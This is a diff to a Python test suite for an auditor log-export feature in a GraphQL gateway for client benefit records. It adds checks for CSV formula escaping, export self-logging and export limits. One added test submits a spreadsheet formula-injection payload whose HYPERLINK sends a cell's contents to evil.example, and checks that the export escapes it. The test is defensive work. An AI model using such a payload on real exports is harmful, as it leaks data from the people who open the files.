@@ -13,7 +13,7 @@ from tests.gateway import caller, events
 PROFILE = "query($id: ID!) { client(id: $id) { benefits { cases { caseNumber } } documents { items { type } } } }"
 LOG = """query($f: AccessLogFilter, $first: Int!, $after: String) {
   accessLog(filter: $f, first: $first, after: $after) {
-    edges { cursor node { seq subject organization purpose clientId action outcome breakGlass justification
+    edges { cursor node { seq subject organization purpose clientId action outcome detail breakGlass justification
                           decisions { category agency decision ruleIds basis reason outcome } } }
     pageInfo { hasNextPage endCursor } } }"""
 RECORD = """mutation($input: RecordConsentInput!) { recordConsent(input: $input) { id } }"""
@@ -144,7 +144,18 @@ async def test_auditors_export_the_log_as_files_that_check_on_their_own(
     hra = caller(gateway, "HRA")
     for cid in ids:
         await hra.query(PROFILE, {"id": cid})
+    # free text that a spreadsheet would run as a formula, over two lines
+    glass = await caller(gateway, "DHS", purpose="emergency").query(
+        "mutation($id: ID!, $why: String!) { startBreakGlass(clientId: $id, justification: $why) { id } }",
+        {"id": ids[2], "why": '=HYPERLINK("http://evil.example/?"&A1, "open")\nsecond line of the reason'})
+    assert glass.get("errors") is None, glass
     auditor = caller(gateway, "OVERSIGHT", "auditor", purpose="audit")
+    formula = await auditor.query(EXPORT, {"format": "CSV", "f": {"breakGlass": True}})
+    content = formula["data"]["accessLogExport"]["content"]
+    assert "'=HYPERLINK" in content and ',"=HYPERLINK' not in content and ",=HYPERLINK" not in content
+    (tmp_path / "formula.csv").write_text(content, newline="")
+    (tmp_path / "formula.csv.proof.json").write_text(json.dumps(formula["data"]["accessLogExport"]["proof"]))
+    assert verify_export(tmp_path / "formula.csv").ok  # the apostrophe is taken off before the event is hashed
     suffix = {"JSONL": ".jsonl", "CSV": ".csv", "FHIR_BUNDLE": ".json"}
     for fmt in ("JSONL", "CSV", "FHIR_BUNDLE"):
         body = await auditor.query(EXPORT, {"format": fmt, "f": {"clientId": ids[1], "organization": "HRA"}})
@@ -172,11 +183,17 @@ async def test_auditors_export_the_log_as_files_that_check_on_their_own(
             tampered.with_name(tampered.name + ".proof.json").write_text(json.dumps(out["proof"]))
         assert not verify_export(tampered).ok  # an edited export does not check
     log = (await auditor.query(LOG, {"first": 10, "f": {"action": "audit.export"}}))["data"]["accessLog"]["edges"]
-    assert [e["node"]["outcome"] for e in log] == ["disclosed"] * 3  # every export is itself in the log
+    assert [e["node"]["outcome"] for e in log] == ["disclosed"] * 4  # every export is itself in the log
+    assert "filter: client_id=" in log[0]["node"]["detail"] and "organization=HRA" in log[0]["node"]["detail"]
 
     refused = await caller(gateway, "HRA").query(EXPORT, {"format": "JSONL"})
     assert refused["data"] is None and refused["errors"][0]["extensions"]["code"] == "FORBIDDEN"
+    twice = await auditor.query("{ a: accessLogExport { events } b: accessLogExport { events } }")
+    assert [e["extensions"]["code"] for e in twice["errors"]] == ["BAD_USER_INPUT"]  # one whole file per request
+    monkeypatch.setattr(audit_desk, "MAX_EXPORT_SPAN", 3)
+    spread = await auditor.query(EXPORT, {"format": "JSONL", "f": {"organization": "OVERSIGHT"}})
+    assert "spread over more than 3 positions" in spread["errors"][0]["message"]
     monkeypatch.setattr(audit_desk, "MAX_EXPORT_EVENTS", 2)
     too_many = await auditor.query(EXPORT, {"format": "JSONL"})
     assert too_many["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"
-    assert "narrow" in too_many["errors"][0]["message"]
+    assert too_many["errors"][0]["message"].startswith("more than 2 events match; narrow")
